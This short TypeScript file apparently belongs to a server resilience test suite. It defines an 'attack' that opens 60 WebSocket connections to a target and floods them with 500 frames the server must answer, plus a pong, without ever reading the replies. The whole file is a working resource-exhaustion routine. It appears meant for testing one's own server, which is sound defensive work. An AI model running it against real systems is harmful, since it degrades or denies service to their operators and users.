import { type Attack, flood, frame, openSeveral, openWebSocket } from './attack.ts';

export const neverReading: Attack = {
  title: '60 WebSockets of a stranger cause answers and pongs, and read nothing',
  async run(target, signal) {
    const sockets = await openSeveral(60, () => openWebSocket(target), signal);
    const refused = frame(1, Buffer.from('x'));
    const pong = frame(10, Buffer.alloc(0));
    const many = Buffer.concat([...Array.from({ length: 500 }, () => refused), pong]);
    await flood(sockets, many, signal);
  },
};
